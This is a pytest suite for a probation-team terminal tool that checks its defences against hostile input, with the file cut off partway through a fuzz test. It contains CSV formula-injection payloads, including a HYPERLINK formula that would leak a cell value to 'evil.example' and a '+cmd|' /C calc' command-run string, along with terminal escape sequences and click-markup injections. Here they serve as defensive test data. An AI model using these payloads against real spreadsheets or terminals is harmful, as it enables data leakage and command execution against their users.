"""Bad input through every door: formulas, terminal escapes, impossible dates, odd files, odd arguments.

What the user would meet: a staff name imported as ``=HYPERLINK(…)`` must not run in a spreadsheet;
a case name holding ``ESC ] 0 ;`` must not rename the terminal (CLI or app); text with control
characters is refused where it comes in and shown as ``\\x1b`` where it goes out; a FIFO does not
hang an import and ``-`` reads standard input; nothing ends in a traceback.
"""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import sqlite3
import stat
import subprocess
import sys
import threading
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from conftest import CASPO, HIGH_CRN, NOW, PO, SPO, fixed_clock, insert_spo, link_me, snapshot, ui_team
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlcipher3 import dbapi2 as cipher

from spo_tui import cli
from spo_tui.config import load_rules
from spo_tui.domain.dates import parse_date, parse_when
from spo_tui.domain.errors import ValidationError
from spo_tui.domain.ndelius import Contact, contact_text, contacts_csv
from spo_tui.domain.text import FORMULA_STARTS, check_text, csv_cell, json_text, visible
from spo_tui.services import admin, decisions, export, intake, rhythm, team
from spo_tui.services.context import make_context
from spo_tui.services.importer import import_file
from spo_tui.store.db import open_db

TODAY = "2026-11-23"
ESC_NAME = "Joe \x1b]0;pwned\x07 \x1b[2J Bloggs"
MARKUP_NAME = "[bold red]Ann[/] [@click=app.quit]Smith[/]"
#: Every kind of character the input refuses, one of each.
REFUSED = ["\x00", "\x07", "\x1b", "\x7f", "\x9b", "\u202e", "\u2066", "\udcff"]


def run(
    *args: str,
    stdin: bytes | None = None,
    env: dict | None = None,
    timeout: float = 60,
    runner: list[str] | None = None,
):
    """``spo-tui ARGS`` in a real process; stdout and stderr as bytes, so a raw ESC byte is seen."""
    command = runner or [sys.executable, "-m", "spo_tui"]
    return subprocess.run(
        [*command, *args],
        input=stdin,
        capture_output=True,
        timeout=timeout,
        env={**os.environ, "SPO_TUI_TODAY": TODAY, **(env or {})},
    )


def one_line_exit_2(result) -> str:
    """The process failed as promised: exit 2, one line on stderr, no traceback. Returns the line."""
    err = result.stderr.decode("utf-8", "replace")
    assert result.returncode == 2, (result.returncode, err)
    assert "Traceback" not in err, err
    assert len(err.strip().splitlines()) == 1, err
    assert err.startswith("spo-tui"), err
    assert b"\x1b" not in result.stderr
    return err.strip()


# --- The rule itself -------------------------------------------------------------------------------


@pytest.mark.parametrize("ch", REFUSED)
def test_check_text_refuses_every_kind_of_control_character_naming_the_field(ch):
    with pytest.raises(ValidationError) as error:
        check_text(f"Ann{ch}Smith", "name")
    assert error.value.field == "name"
    assert str(error.value).startswith("name ")
    assert "at character 4" in str(error.value)
    assert ch not in str(error.value)  # the message shows it as an escape
    with pytest.raises(ValidationError):
        check_text(f"Ann{ch}Smith", "details", multiline=True)


def test_line_breaks_and_tabs_only_in_a_field_of_several_lines():
    with pytest.raises(ValidationError, match="title holds a line break at character 4, but it takes one line"):
        check_text("one\ntwo", "title")
    with pytest.raises(ValidationError, match="title holds a tab at character 4: remove it"):
        check_text("one\ttwo", "title")
    # Windows and word-processor line breaks become \n in a multi-line field; tabs stay.
    assert (
        check_text("one\r\ntwo\rthree\x0bfour\u2028five\tsix", "details", multiline=True)
        == "one\ntwo\nthree\nfour\nfive\tsix"
    )
    assert check_text("  Ann Smith  ", "name") == "Ann Smith"
    assert (
        check_text("Zoë O’Brien — 李小龙 🙂 \u200f", "name") == "Zoë O’Brien — 李小龙 🙂 \u200f"
    )  # letters and marks are fine


def test_visible_shows_each_control_character_as_an_escape():
    assert visible("a\x1b[2Jb\x07\x9b\u202ec") == "a\\x1b[2Jb\\x07\\x9b\\u202ec"
    assert visible("two\nlines\tand\rcr") == "two\nlines\tand\\rcr"
    assert visible("two\nlines\tx", lines=False) == "two\\nlines\\tx"
    assert visible("Zoë [b]x[/]") == "Zoë [b]x[/]"


def test_json_text_escapes_what_json_dumps_leaves_raw_and_keeps_the_data_exact():
    value = {"title": "a\x7fb\x9bc\u202ed\u2028e\x1b"}
    encoded = json_text(json.dumps(value, ensure_ascii=False))
    assert all(ch not in encoded for ch in "\x7f\x9b\u202e\u2028\x1b")
    assert json.loads(encoded) == value


@pytest.mark.parametrize(
    "cell", ['=HYPERLINK("http://x","y")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx", "  =1+1", "\uff1d1+1"]
)
def test_a_cell_a_spreadsheet_would_run_gets_a_leading_apostrophe(cell):
    safe = csv_cell(cell)
    assert safe.startswith("'")
    assert safe[1:].replace("\\t", "\t") == cell


def test_ordinary_cells_are_unchanged():
    for cell in ("Sam Spo", "X123456", "23/11/2026", "09:00", "", "O'Brien", "MO1"):
        assert csv_cell(cell) == cell


# --- Exports ---------------------------------------------------------------------------------------


def _contact(**changes) -> Contact:
    base = {
        "oversight_id": "e1",
        "crn": "X123456",
        "date": "23/11/2026",
        "time": "09:00",
        "type_code": "MO1",
        "type_label": "Management Oversight",
        "outcome_code": None,
        "outcome_label": "Guidance given",
        "notes": "Comment added by Sam\n\nDiscussed:\nx",
        "sensitive": False,
        "staff": "Sam Spo",
        "entered_by": "Sam Spo",
        "supersedes": None,
    }
    return Contact(**{**base, **changes})


def test_the_csv_export_neutralises_every_formula_cell_and_control_character():
    contact = _contact(
        staff='=HYPERLINK("http://evil","Sam")',
        entered_by="+cmd|' /C calc'!A0",
        notes="-1+1\x1b]0;x\x07",
        type_label="@SUM(1)",
    )
    text = contacts_csv([contact])
    assert "\x1b" not in text and "\x07" not in text
    rows = list(csv.DictReader(io.StringIO(text)))
    for value in rows[0].values():
        assert not value.startswith(FORMULA_STARTS), value
    assert rows[0]["staff"] == '\'=HYPERLINK("http://evil","Sam")'
    assert rows[0]["entered_by"] == "'+cmd|' /C calc'!A0"
    assert rows[0]["notes"] == "'-1+1\\x1b]0;x\\x07"


def test_the_text_export_shows_control_characters_as_escapes():
    text = contact_text(_contact(staff="Sam\x1b[2J", notes="line one\nline \x1b]0;x\x07two"))
    assert "\x1b" not in text and "\x07" not in text
    assert "Staff: Sam\\x1b[2J\n" in text
    assert "line one\nline \\x1b]0;x\\x07two" in text


def test_staff_imported_as_formulas_reach_the_oversight_csv_as_text(tmp_path, rules):
    """Through the CLI as the CASPO would meet it: import staff, record an entry, export the CSV."""
    path = tmp_path / "f.db"
    db = open_db(path)
    insert_spo(db, '=HYPERLINK("http://evil.example/?"&A1,"Sam Spo")')
    ctx = make_context(db, rules, clock=fixed_clock(NOW))
    staff = tmp_path / "staff.csv"
    staff.write_text("name,role\n+cmd|' /C calc'!A0,CASPO\n@SUM(1+1),PO\n")
    assert import_file(ctx, "staff", staff).ok
    intake.add_case(ctx, HIGH_CRN, "-2+3", "@SUM(1+1)", "HIGH", "LICENCE", "2026-08-01")
    caspo = make_context(db, rules, "+cmd|' /C calc'!A0", clock=fixed_clock(NOW))
    decisions.record_oversight(caspo, crn=HIGH_CRN, outcome="guidance_given", discussed="=1+1", decision="-risk")
    link_me(db, "+cmd|' /C calc'!A0")
    db.close()

    result = run("--db", str(path), "--as", "+cmd|' /C calc'!A0", "export", "oversight", "--format", "csv")

    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout.decode())))
    assert len(rows) == 1
    for column, value in rows[0].items():
        assert not value.lstrip(" ").startswith(FORMULA_STARTS), (column, value)
    assert rows[0]["staff"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Sam Spo")'
    assert rows[0]["entered_by"] == "'+cmd|' /C calc'!A0"


# --- Free text into the services -------------------------------------------------------------------


def _calls(ctx, bad: str):
    """(field named in the message, a service call with ``bad`` in that field)."""
    sbar = lambda: intake.raise_sbar(ctx, HIGH_CRN, PO, "s", "b", "a", "r").item_id  # noqa: E731
    return [
        ("name", lambda: intake.add_staff(ctx, f"New{bad}Person", "PO")),
        ("team", lambda: intake.add_staff(ctx, "New Person", "PO", team=f"A{bad}")),
        ("name", lambda: intake.add_case(ctx, "Z999999", f"Ann{bad}", PO, "LOW", "LICENCE", "2026-10-01")),
        ("tier", lambda: intake.add_case(ctx, "Z999999", "Ann", PO, "LOW", "LICENCE", "2026-10-01", tier=f"B{bad}")),
        ("situation", lambda: intake.raise_sbar(ctx, HIGH_CRN, PO, f"s{bad}", "b", "a", "r")),
        ("title", lambda: intake.raise_sbar(ctx, HIGH_CRN, PO, "s", "b", "a", "r", title=f"t{bad}")),
        ("title", lambda: intake.add_countersign(ctx, HIGH_CRN, "OASYS", PO, title=f"t{bad}")),
        ("link", lambda: intake.add_countersign(ctx, HIGH_CRN, "OASYS", PO, link=f"http://x{bad}")),
        ("title", lambda: intake.add_task(ctx, f"Chairs{bad}", "buildings")),
        ("details", lambda: intake.add_task(ctx, "Chairs", "buildings", details=f"d{bad}")),
        ("details", lambda: intake.add_alert(ctx, HIGH_CRN, "arrest", f"d{bad}")),
        ("note", lambda: intake.add_touch_point(ctx, HIGH_CRN, "2026-12-01", f"n{bad}")),
        ("reason", lambda: admin.add_absence(ctx, PO, "2026-12-01", reason=f"leave{bad}")),
        ("other_area", lambda: admin.add_transfer(ctx, HIGH_CRN, "out", f"Wales{bad}")),
        ("note", lambda: admin.add_transfer(ctx, HIGH_CRN, "out", "Wales", note=f"n{bad}")),
        ("description", lambda: admin.set_flag(ctx, HIGH_CRN, "ADVP", description=f"d{bad}")),
        ("situation", lambda: admin.update_sbar(ctx, sbar(), situation=f"s{bad}")),
        (
            "discussed",
            lambda: decisions.record_oversight(
                ctx, crn=HIGH_CRN, outcome="guidance_given", discussed=f"x{bad}", decision="y"
            ),
        ),
        (
            "action_1",
            lambda: decisions.record_oversight(
                ctx,
                crn=HIGH_CRN,
                outcome="guidance_given",
                discussed="x",
                decision="y",
                actions=[decisions.AgreedAction(f"do{bad}", PO)],
            ),
        ),
        ("question", lambda: decisions.request_more_information(ctx, sbar(), f"q{bad}")),
        ("note", lambda: decisions.escalate_sbar(ctx, sbar(), "MAPPA", f"n{bad}")),
        ("text", lambda: rhythm.add_team_note(ctx, "note", f"t{bad}")),
        ("to", lambda: decisions.reassign(ctx, sbar(), f"Pat{bad}")),
        ("date", lambda: decisions.snooze(ctx, sbar(), f"tomorrow{bad}")),
        ("crn", lambda: team.make_touch_point_for(ctx, f"X12345{bad}")),
    ]


@pytest.mark.parametrize("bad", ["\x1b[2J", "\x07", "\u202e", "\x9b"])
def test_every_service_refuses_control_characters_naming_the_field_and_writes_nothing(ctx, db, bad):
    refused = 0
    for field, call in _calls(ctx, bad):
        before = snapshot(db)
        with pytest.raises(ValidationError) as error:
            call()
        message = str(error.value)
        assert bad not in message, message
        if field not in ("crn", "date", "to"):  # those name what is unknown, not a control character
            assert error.value.field == field, (field, message)
            assert "control character" in message or "text-direction" in message, message
        # Only the SBAR made to have something to act on (and its link in the record) may have been written.
        after = snapshot(db)
        assert {t: rows for t, rows in after.items() if rows != before[t]}.keys() <= {
            "items",
            "sbars",
            "audit_log",
            "record_chain",
        }
        refused += 1
    assert refused == len(_calls(ctx, bad))
    assert not any(bad in str(row) for rows in snapshot(db).values() for row in rows)


def test_multi_line_fields_keep_their_lines_and_tabs(ctx, db):
    result = intake.raise_sbar(ctx, HIGH_CRN, PO, "first line\r\nsecond\tline", "b", "a", "r")
    situation = db.execute("SELECT situation FROM sbars WHERE item_id = ?", [result.item_id]).fetchone()[0]
    assert situation == "first line\nsecond\tline"


# --- Dates -----------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", ["0001-01-01", "9999-12-31", "31/12/1899", "01/01/2101"])
def test_dates_outside_1900_to_2100_are_refused(text):
    with pytest.raises(ValidationError, match=r"is outside the dates spo-tui accepts \(1900 to 2100\)") as error:
        parse_date(text, "sentence_start")
    assert error.value.field == "sentence_start"
    with pytest.raises(ValidationError, match="outside the dates"):
        parse_when(text, date(2026, 11, 23))


def test_the_edges_of_the_range_are_accepted_and_an_offset_past_it_is_not():
    assert parse_date("01/01/1900") == date(1900, 1, 1)
    assert parse_date("2100-12-31") == date(2100, 12, 31)
    with pytest.raises(ValidationError, match="outside the dates"):
        parse_when("999m", date(2026, 11, 23))


def test_a_year_9999_is_refused_by_the_cli_and_the_import(tmp_path):
    path = tmp_path / "d.db"
    ui_team(path).db.close()
    added = run("--db", str(path), "add", "task", "--title", "Chairs", "--category", "buildings", "--due", "9999-12-31")
    assert "'9999-12-31' is outside the dates spo-tui accepts (1900 to 2100)" in one_line_exit_2(added)
    cases = tmp_path / "cases.csv"
    cases.write_text(
        "crn,name,practitioner,rosh,sentence_type,sentence_start\nA111111,Ann,Pat Officer,LOW,LICENCE,0001-01-01\n"
    )
    imported = run("--db", str(path), "import", "cases", str(cases))
    assert imported.returncode == 1
    assert (
        b"line 2, sentence_start: '0001-01-01' is outside the dates spo-tui accepts (1900 to 2100)" in imported.stdout
    )
    assert read_one(path, "SELECT COUNT(*) FROM cases WHERE crn = 'A111111'") == 0


def read_one(path: Path, sql: str, params=()):
    db = open_db(path)
    try:
        return db.execute(sql, params).fetchone()[0]
    finally:
        db.close()


# --- Imports: cells, NUL, FIFOs and standard input ---------------------------------------------------

STAFF_CSV = "name,role,team\nPat Officer,PO,A\n"


def test_an_imported_cell_with_an_escape_sequence_refuses_its_row_and_the_report_shows_it_safely(tmp_path):
    path = tmp_path / "d.db"
    ui_team(path).db.close()
    cases = tmp_path / "cases\x1b[2J.csv"
    cases.write_text(
        "crn,name,practitioner,rosh,sentence_type,sentence_start,tier,Note\x1b]0;x\x07\n"
        f"A111111,{ESC_NAME},Pat Officer,LOW,LICENCE,2026-10-01,B\u202e1,\n"
        "B222222,Bea\tTab,Pat Officer,LOW,LICENCE,2026-10-01,,\n"
    )

    result = run("--db", str(path), "import", "cases", str(cases))

    assert result.returncode == 1
    assert b"\x1b" not in result.stdout and b"\x07" not in result.stdout and "\u202e".encode() not in result.stdout
    out = result.stdout.decode()
    assert out.splitlines() == [
        "Import cases from cases\\x1b[2J.csv: 2 rows, 3 problems in 2 rows. Nothing was written.",
        "Ignored columns: Note\\x1b]0;x\\x07",
        "line 2, name: holds a control character (\\x1b) at character 5 (and 2 more): remove it",
        "line 2, tier: holds a text-direction control character (\\u202e) at character 2: remove it",
        "line 3, name: holds a tab at character 4: remove it",
    ]
    assert read_one(path, "SELECT COUNT(*) FROM cases WHERE crn IN ('A111111', 'B222222')") == 0


def test_a_fifo_is_refused_at_once_instead_of_hanging(tmp_path):
    path = tmp_path / "d.db"
    ui_team(path).db.close()
    fifo = tmp_path / "cases.csv"
    os.mkfifo(fifo)

    result = run("--db", str(path), "import", "cases", str(fifo), timeout=30)

    line = one_line_exit_2(result)
    assert (
        line == f"spo-tui: {fifo} is not a regular file (a FIFO or pipe): give a CSV file, or - to read standard input"
    )


def test_a_device_is_refused_too(ctx):
    with pytest.raises(ValidationError, match="is not a regular file \\(a character device\\)"):
        import_file(ctx, "cases", "/dev/zero")


@pytest.mark.parametrize("name", ["-", "/dev/stdin"])
def test_standard_input_is_read_with_a_dash_or_dev_stdin(tmp_path, name):
    path = tmp_path / "d.db"
    ui_team(path).db.close()
    data = b"crn,name,practitioner,rosh,sentence_type,sentence_start\nA111111,Ann Smith,Pat Officer,LOW,LICENCE,01/10/2026\n"

    result = run("--db", str(path), "import", "cases", name, stdin=data)  # a pipe, not a file

    assert result.returncode == 0, result.stderr
    assert result.stdout.decode().startswith("Import cases from standard input: 1 row: 1 added, 0 updated")
    assert read_one(path, "SELECT name FROM cases WHERE crn = 'A111111'") == "Ann Smith"


def test_standard_input_redirected_from_a_file_works_too(tmp_path):
    path = tmp_path / "d.db"
    ui_team(path).db.close()
    source = tmp_path / "cases.csv"
    source.write_bytes(
        b"crn,name,practitioner,rosh,sentence_type,sentence_start\nA111111,Ann,Pat Officer,LOW,LICENCE,01/10/2026\n"
    )
    with open(source, "rb") as handle:
        result = subprocess.run(
            [sys.executable, "-m", "spo_tui", "--db", str(path), "import", "cases", "-", "--dry-run"],
            stdin=handle,
            capture_output=True,
            timeout=60,
            env={**os.environ, "SPO_TUI_TODAY": TODAY},
        )
    assert result.returncode == 0, result.stderr
    assert b"1 added" in result.stdout and b"dry run" in result.stdout


# --- Stored text from an older version or another program, printed ------------------------------------


@pytest.fixture
def poisoned(tmp_path) -> Path:
    """A store whose text holds control characters and markup, written straight into the tables
    (as an older spo-tui or another program could have): a case name, an SBAR, the SPO's name."""
    path = tmp_path / "poisoned.db"
    ctx = ui_team(path)
    sbar = intake.raise_sbar(ctx, "X123456", "Pat Officer", "s", "b", "a", "r", title="Call back").item_id
    decisions.record_oversight(ctx, crn="X123456", outcome="guidance_given", discussed="x", decision="y")
    db = ctx.db
    db.execute("UPDATE cases SET name = ? WHERE crn = 'X123456'", [f"{ESC_NAME} {MARKUP_NAME}"])
    db.execute("UPDATE items SET title = ? WHERE id = ?", ["Call \x1b[31mback\x9b2J\u202eevil", sbar])
    db.execute("UPDATE sbars SET situation = ? WHERE item_id = ?", ["He said \x1b]0;pwned\x07 [b]now[/b]", sbar])
    db.execute("UPDATE staff SET name = ? WHERE id = 'spo-1'", ["Sam \x1b[2J Spo"])
    db.conn.commit()
    db.close()
    return path


def test_queue_prints_stored_control_characters_as_escapes(poisoned):
    result = run("--db", str(poisoned), "queue")
    assert result.returncode == 0, result.stderr
    assert b"\x1b" not in result.stdout and b"\xc2\x9b" not in result.stdout and "\u202e".encode() not in result.stdout
    assert "Call \\x1b[31mback\\x9b2J\\u202eevil" in result.stdout.decode()


def test_queue_json_escapes_them_and_keeps_the_text_exact(poisoned):
    result = run("--db", str(poisoned), "queue", "--json")
    assert result.returncode == 0, result.stderr
    assert b"\x1b" not in result.stdout and b"\xc2\x9b" not in result.stdout and "\u202e".encode() not in result.stdout
    titles = [item["title"] for item in json.loads(result.stdout)]
    assert "Call \x1b[31mback\x9b2J\u202eevil" in titles


@pytest.mark.parametrize("fmt", ["csv", "text"])
def test_both_export_formats_print_no_control_character(poisoned, fmt):
    result = run("--db", str(poisoned), "export", "oversight", "--format", fmt)
    assert result.returncode == 0, result.stderr
    assert result.stdout.strip()
    assert b"\x1b" not in result.stdout and b"\x07" not in result.stdout


def test_an_error_that_echoes_the_input_shows_its_control_characters_as_escapes(poisoned):
    result = run(
        "--db",
        str(poisoned),
        "add",
        "sbar",
        "--crn",
        "X123456",
        "--by",
        "Nobody \x1b]0;x\x07",
        "--situation",
        "s",
        "--background",
        "b",
        "--assessment",
        "a",
        "--recommendation",
        "r",
    )
    assert (
        one_line_exit_2(result)
        == "spo-tui: raised by holds a control character (\\x1b) at character 8 (and 1 more): remove it"
    )
    titled = run("--db", str(poisoned), "add", "task", "--title", "\x1b]0;pwned\x07", "--category", "it")
    assert "title holds a control character (\\x1b)" in one_line_exit_2(titled)
    assert read_one(poisoned, "SELECT COUNT(*) FROM items WHERE kind = 'task'") == 0


# --- Tracebacks that become one line -------------------------------------------------------------------


def _can_mount_read_only() -> bool:
    if os.geteuid() != 0 or not shutil.which("unshare"):
        return False
    return subprocess.run(["unshare", "--mount", "true"], capture_output=True).returncode == 0


@pytest.fixture
def read_only_runner():
    """``make(folder)`` returns a command prefix for which ``folder`` cannot be written: a read-only
    bind mount in a mount namespace of its own when the tests run as root (root writes anything
    whatever the mode), else the folder's and its files' write permission taken away."""
    restore: list[tuple[Path, int]] = []

    def make(folder: Path) -> list[str]:
        if os.geteuid() == 0:
            if not _can_mount_read_only():
                pytest.skip("running as root without a mount namespace: no way to make a folder read-only")
            return [
                "unshare",
                "--mount",
                "sh",
                "-c",
                'mount --bind -o ro "$1" "$1" && shift && exec "$@"',
                "sh",
                str(folder),
                sys.executable,
                "-m",
                "spo_tui",
            ]
        for p in [folder, *folder.iterdir()]:
            restore.append((p, stat.S_IMODE(p.stat().st_mode)))
            p.chmod(0o500 if p.is_dir() else 0o400)
        return [sys.executable, "-m", "spo_tui"]

    yield make
    for p, mode in reversed(restore):
        p.chmod(mode)


def test_as_on_a_read_only_database_says_so_in_one_line(tmp_path, read_only_runner):
    folder = tmp_path / "shared"
    folder.mkdir()
    path = folder / "ro.db"
    ui_team(path).db.close()
    before = path.read_bytes()
    runner = read_only_runner(folder)

    added = run(
        "--db", str(path), "--as", "Cas Admin", "add", "task", "--title", "Chairs", "--category", "it", runner=runner
    )
    assert (
        one_line_exit_2(added) == "spo-tui: this database is read-only here (no write permission): nothing can be saved"
    )
    queue = run("--db", str(path), "--as", "Cas Admin", "queue", runner=runner)
    # Reading a read-only store may work; if it cannot, it says why in one line. Never a traceback.
    if queue.returncode != 0:
        one_line_exit_2(queue)
    assert path.read_bytes() == before


def test_as_on_a_locked_database_says_it_is_busy_in_one_line(tmp_path):
    path = tmp_path / "locked.db"
    ui_team(path).db.close()
    holder = sqlite3.connect(path, isolation_level=None)
    holder.execute("BEGIN EXCLUSIVE")  # another process in the middle of a long write
    try:
        result = run("--db", str(path), "--as", "Cas Admin", "add", "task", "--title", "Chairs", "--category", "it")
    finally:
        holder.execute("ROLLBACK")
        holder.close()
    assert one_line_exit_2(result).startswith("spo-tui: the database is busy")
    assert read_one(path, "SELECT COUNT(*) FROM items WHERE kind = 'task'") == 0


def test_backup_into_a_missing_folder_or_beneath_a_file_is_one_line(tmp_path):
    path = tmp_path / "d.db"
    ui_team(path).db.close()
    missing = tmp_path / "no-such-folder" / "b.db"
    assert one_line_exit_2(run("--db", str(path), "backup", "--to", str(missing))).startswith(
        f"spo-tui: cannot back up to {missing}"
    )
    (tmp_path / "a-file").write_text("x")
    beneath = tmp_path / "a-file" / "b.db"
    assert one_line_exit_2(run("--db", str(path), "backup", "--to", str(beneath))).startswith("spo-tui: cannot back up")
    assert not missing.parent.exists()


def test_backup_into_a_read_only_folder_is_one_line(tmp_path, read_only_runner):
    path = tmp_path / "d.db"
    ui_team(path).db.close()
    folder = tmp_path / "backups"
    folder.mkdir()
    result = run("--db", str(path), "backup", "--to", str(folder / "b.db"), runner=read_only_runner(folder))
    assert one_line_exit_2(result).startswith("spo-tui: cannot back up")
    assert list(folder.iterdir()) == []


def test_queue_limit_with_a_25_digit_number_is_one_line(tmp_path):
    path = tmp_path / "d.db"
    ui_team(path).db.close()
    line = one_line_exit_2(run("--db", str(path), "queue", "--limit", "1234567890123456789012345"))
    assert "--limit: must be a whole number from 1 to 1,000,000" in line
    assert one_line_exit_2(run("--db", str(path), "queue", "--limit", "0"))
    assert run("--db", str(path), "queue", "--limit", "1000000").returncode == 0


@pytest.mark.parametrize(
    "args",
    [
        [b"--db", b"\xff.db", b"queue"],
        [b"--db", b"DB", b"--as", b"Sam \xff Spo", b"queue"],
        [b"--db", b"DB", b"add", b"task", b"--title", b"Chairs \xfe", b"--category", b"it"],
        [b"--db", b"DB", b"import", b"cases", b"\xff.csv"],
    ],
)
def test_an_argument_that_is_not_utf8_is_one_line(tmp_path, args):
    path = tmp_path / "d.db"
    ui_team(path).db.close()
    argv = [os.fsencode(path) if a == b"DB" else a for a in args]
    result = subprocess.run(
        [sys.executable.encode(), b"-m", b"spo_tui", *argv],
        capture_output=True,
        timeout=60,
        env={**os.environ, "SPO_TUI_TODAY": TODAY},
    )
    line = one_line_exit_2(result)
    assert "is not valid UTF-8 text" in line and "\\x" in line
    assert read_one(path, "SELECT COUNT(*) FROM items WHERE kind = 'task'") == 0


def test_verify_on_a_file_damaged_past_its_header_is_one_line(tmp_path):
    path = tmp_path / "damaged.db"
    ctx = ui_team(path)
    for n in range(300):
        decisions.record_oversight(
            ctx,
            crn="X123456",
            outcome="guidance_given",
            discussed=f"case discussed {n} " * 8,
            decision=f"decision {n} " * 8,
        )
    ctx.db.conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    pages = [p for (p,) in ctx.db.execute("SELECT pageno FROM dbstat WHERE name = 'oversight_entries' ORDER BY pageno")]
    page_size = ctx.db.execute("PRAGMA page_size").fetchone()[0]
    ctx.db.close()
    with open(path, "r+b") as f:
        for page in pages[len(pages) // 2 :][:3]:
            f.seek((page - 1) * page_size + 8)
            f.write(b"\xff" * (page_size - 16))

    result = run("--db", str(path), "verify")

    line = one_line_exit_2(result)
    assert line.startswith("spo-tui: ") and "damaged" in line or "malformed" in line


@pytest.mark.parametrize(
    ("error", "expected"),
    [
        (sqlite3.OperationalError("attempt to write a readonly database"), "spo-tui: this database is read-only here"),
        (sqlite3.DatabaseError("database disk image is malformed"), "spo-tui: the database file is damaged"),
        (cipher.OperationalError("database is locked"), "spo-tui: the database is busy"),  # not a sqlite3.Error
        (PermissionError(13, "Permission denied", "/x/y.db"), "spo-tui: cannot use /x/y.db: Permission denied"),
        (
            UnicodeEncodeError("utf-8", "\udcff", 0, 1, "surrogates not allowed"),
            "spo-tui: text that is not valid UTF-8",
        ),
        (ValidationError("bad \x1b[2J thing"), "spo-tui: bad \\x1b[2J thing"),
    ],
)
def test_the_last_guard_turns_any_file_or_database_error_into_one_line(monkeypatch, capsys, error, expected):
    def fails(args):
        raise error

    monkeypatch.setattr(cli, "cmd_paths", fails)
    assert cli.main(["paths"]) == 2
    err = capsys.readouterr().err
    assert err.startswith(expected) and len(err.strip().splitlines()) == 1 and "\x1b" not in err


def test_the_last_guard_lets_a_programming_error_through(monkeypatch):
    def fails(args):
        raise ZeroDivisionError("a bug, to be seen and fixed")

    monkeypatch.setattr(cli, "cmd_paths", fails)
    with pytest.raises(ZeroDivisionError):
        cli.main(["paths"])


# --- The app draws stored text safely -----------------------------------------------------------------


def drawn(app) -> str:
    """Every line of the screen as the terminal would get it (the text of each drawn segment)."""
    return "\n".join("".join(segment.text for segment in strip) for strip in app.screen._compositor.render_strips())


def assert_no_control_characters(text: str) -> None:
    for ch in ("\x1b", "\x07", "\x9b", "\u202e"):
        assert ch not in text, (ch, text)


async def test_the_app_draws_escape_sequences_visibly_and_markup_literally(poisoned):
    from rich.text import Text
    from textual.widgets import Static

    from spo_tui.app import SpoApp
    from spo_tui.screens.case import CaseScreen
    from spo_tui.screens.oversight_form import OversightForm

    app = SpoApp(poisoned, clock=fixed_clock(NOW))
    async with app.run_test(size=(200, 50), notifications=True) as pilot:
        await pilot.pause(0.5)
        today = drawn(app)
        assert_no_control_characters(today)
        assert "Sam \\x1b[2J Spo (SPO)" in today  # the header: who is acting
        assert "Call \\x1b[31mback\\x9b2J\\u202eevil" in today  # the queue row
        # The detail pane of the highlighted SBAR: its case name and situation, shown as stored.
        table = app.screen.query_one("QueueTable")
        row = next(n for n in range(table.row_count) if table.row_text(n)[4].startswith("Call"))
        table.move_cursor(row=row)
        await pilot.pause()
        detail = drawn(app)
        assert_no_control_characters(detail)
        assert "He said \\x1b]0;pwned\\x07 [b]now[/b]" in detail
        assert "Joe \\x1b]0;pwned\\x07 \\x1b[2J Bloggs [bold red]Ann[/]" in detail  # the case, wrapped
        assert "[@click=app.quit]Smith[/]" in detail

        await pilot.press("d")  # the oversight form, its heading and prefill from the stored text
        await pilot.pause()
        assert isinstance(app.screen, OversightForm)
        form = drawn(app)
        assert_no_control_characters(form)
        assert "Joe \\x1b]0;pwned\\x07 \\x1b[2J Bloggs" in form
        await pilot.press("escape")  # nothing typed: it closes at once
        await pilot.pause()
        assert not isinstance(app.screen, OversightForm)

        app.open_case("X123456")
        await pilot.pause(0.3)
        assert isinstance(app.screen, CaseScreen)
        case = drawn(app)
        assert_no_control_characters(case)
        assert "X123456  Joe \\x1b]0;pwned\\x07 \\x1b[2J Bloggs [bold red]Ann[/] [@click=app.quit]Smith[/]" in case

        # The last guard: a widget given raw control characters still sends none to the terminal.
        await app.screen.mount(Static(Text("raw \x1b]0;pwned\x07 \x1b[2J text")))
        await pilot.pause()
        guarded = drawn(app)
        assert_no_control_characters(guarded)
        assert "raw ]0;pwned [2J text" in guarded
        app.notify("Saved \x1b]0;pwned\x07 [@click=app.quit]x[/]", markup=False)  # a message quoting stored text
        await pilot.pause(0.3)
        toast = drawn(app)
        assert_no_control_characters(toast)
        assert "Saved \\x1b]0;pwned\\x07 [@click=app.quit]x[/]" in toast
        assert app.is_running  # [@click=app.quit] was never acted on


# --- A small fuzz over the import path ------------------------------------------------------------------

#: Cells of formula starts, CSV's own characters and letters; half of them also every kind of control character.
_SAFE = "=+-@ ,\";:'[]/aZé李"
_FUZZ = st.one_of(
    st.text(alphabet=st.sampled_from(list(_SAFE)), min_size=1, max_size=10),
    st.text(
        alphabet=st.sampled_from(list(_SAFE + "\t\r\n\x00\x07\x1b\x7f\x9b\u202e\u2066\u2028\u2029")),
        min_size=1,
        max_size=10,
    ),
)


def _stored_text_is_clean(db) -> None:
    from spo_tui.domain.text import control_characters

    for table, columns in (("staff", "name, team, email"), ("cases", "name, tier")):
        for row in db.execute(f"SELECT {columns} FROM {table}"):
            for value in row:
                assert not control_characters(value or ""), (table, value)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    names=st.lists(_FUZZ, min_size=1, max_size=3, unique=True),
    teams=st.lists(_FUZZ, min_size=3, max_size=3),
    case_name=_FUZZ,
    lead=st.sampled_from(["", "=", "+", "-", "@"]),
)
def test_fuzzed_imports_are_refused_cleanly_or_stored_clean_and_export_no_formula(
    tmp_path_factory, names, teams, case_name, lead
):
    folder = tmp_path_factory.mktemp("fuzz")
    db = open_db(folder / "f.db")
    insert_spo(db, lead + "Sam Spo")
    rules = load_rules()
    ctx = make_context(db, rules, clock=fixed_clock(NOW))
    intake.add_case(ctx, HIGH_CRN, "Alex Example", lead + "Sam Spo", "HIGH", "LICENCE", "2026-08-01")

    staff = io.StringIO()
    writer = csv.writer(staff)
    writer.writerow(["name", "role", "team", "email"])
    for name, team_name in zip(names, teams, strict=False):
        writer.writerow([lead + name, "CASPO", team_name, team_name])
    (folder / "staff.csv").write_bytes(staff.getvalue().encode("utf-8", "surrogatepass"))
    cases = io.StringIO()
    csv.writer(cases).writerows(
        [
